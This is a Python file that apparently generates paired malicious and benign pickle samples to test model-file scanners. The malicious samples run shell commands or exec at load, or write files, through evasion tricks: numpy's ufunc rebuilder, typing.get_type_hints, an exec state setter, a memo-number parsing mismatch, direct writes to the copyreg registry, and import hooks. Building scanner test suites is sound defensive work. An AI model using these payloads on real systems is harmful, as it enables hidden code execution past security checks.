"""Pickles: resolvers hidden in trusted libraries, writes without a call, and readers that disagree."""
import io

import numpy

from assembly import build, call, get, glob, model, new, old, pickle, put, seq, text, tup, val, Raw
from pair import CODE, SHELL


def frombuffer(data, kind="u1"):
    return call(glob("numpy._core.numeric", "_frombuffer"), data, call(glob("numpy", "dtype"), kind), (len(data),), "C")


def npy(array, allow=False):
    out = io.BytesIO()
    numpy.lib.format.write_array(out, array, allow_pickle=allow)
    return out.getvalue()


class Raised:
    """Pickles to a call of exec."""

    def __reduce__(self):
        return exec, (CODE,)


def add(s):
    rebuild = glob("numpy.core", "_ufunc_reconstruct")
    s.add("pickles", "ufunc_resolver", pickle(model(call(call(rebuild, "posix", "system"), SHELL))), pickle(model(call(call(rebuild, "numpy", "hypot"), 3.0, 4.0))), "pickle", "scaler.pkl",
          why="numpy's own ufunc rebuilder imports any module and returns any attribute, which is then called: a shell command at load")

    body = b"#!/bin/sh\nid > /dev/null\n"
    shape, kind = (len(body),), call(glob("numpy", "dtype"), "u1")
    written = seq(put(1, call(glob("numpy", "memmap"), "marker", kind, "w+", 0, shape)), Raw(get(1) + val(()) + frombuffer(body) + b"s"))
    kept = seq(put(1, call(glob("numpy", "ndarray"), shape, kind)), Raw(get(1) + val(()) + frombuffer(body) + b"s"))
    s.add("pickles", "memmap_setitem_writes_file", pickle(model(written)), pickle(model(kept)), "pickle", "features.pkl",
          why="numpy.memmap opened for writing plus SETITEM puts chosen bytes in a chosen file, with numpy globals alone")

    def hints(annotation):
        holder = build(new(glob("types", "SimpleNamespace")), {"__annotations__": {"weights": annotation}})
        return pickle(model(call(glob("typing", "get_type_hints"), holder)))

    s.add("pickles", "annotations_evaluated", hints(f"({CODE}, int)[1]"), hints("int"), "pickle", "schema.pkl",
          why="typing.get_type_hints evaluates string annotations as Python: code at load without exec or eval named")

    def memo(module, name, argument):
        # PUT takes its number through int(): "1_0" is ten for CPython and overwrites the innocent entry.
        names = put(10, "collections") + b"0" + text("OrderedDict") + b"q\x0b0" + text(module) + b"p1_0\n0" + text(name) + b"p1_1\n0"
        return pickle(model(Raw(names + get(10) + get(11) + b"\x93" + argument + b"R")))

    s.add("pickles", "memo_number_with_underscore", memo("posix", "system", tup(SHELL)), memo("collections", "Counter", tup("abc")), "pickle", "vocab.pkl",
          why="CPython reads the memo number 1_0 as ten; the called name is os.system, a reader that stops at the underscore sees collections.OrderedDict")

    def extension(module, name, *args):
        registry = Raw(old("copyreg", "_inverted_registry") + val(201) + val((module, name)) + b"s0")
        return pickle(model(Raw(registry + b"\x82\xc9" + tup(*args) + b"R")))

    s.add("pickles", "extension_registry_written_directly", extension("posix", "system", SHELL), extension("fractions", "Fraction", 3, 4), "pickle", "state.pkl",
          why="writes the extension table itself, no add_extension call, then fetches os.system by its code and calls it")

    def made(setter, state):
        return pickle(model(Raw(new(call(glob("builtins", "type"), "Scaler", tup(glob("builtins", "object")), setter)) + val(state) + b"b")))

    s.add("pickles", "class_whose_state_setter_is_exec", made(val({"__setstate__": glob("builtins", "exec")}), CODE), made(val({"scale": 1.5}), {"mean": 0.25}), "pickle", "scaler.pkl",
          why="a class made at load has exec as its state setter, so BUILD runs the state as code: no REDUCE touches exec")

    def second(array, allow):
        return pickle(model(call(glob("numpy.lib.format", "read_array"), call(glob("_io", "BytesIO"), npy(array, allow)), allow)))

    inner = numpy.empty(1, object)
    inner[0] = Raised()
    s.add("pickles", "read_array_over_bytesio", second(inner, True), second(numpy.arange(6.0), False), "pickle", "embedded.pkl",
          why="numpy reads an object array out of bytes at load, a second pickle that calls exec")

    def hooks(first, second_, module, name):
        return pickle(model(seq(Raw(first[0] + val(first[1]) + b"a"), Raw(second_[0] + val(second_[1]) + b"a"), glob(module, name))))

    s.add("pickles", "import_hook_by_append", hooks((old("sys", "path_hooks"), old("posix", "system")), (old("sys", "path"), SHELL), "nntplib_absent", "x"), hooks((val([]), old("fractions", "Fraction")), (val([]), "weights"), "colorsys", "rgb_to_hls"), "pickle", "paths.pkl",
          why="appends os.system to the import hooks and a command to the path: the next import of the stream runs it, and nothing is called by REDUCE")
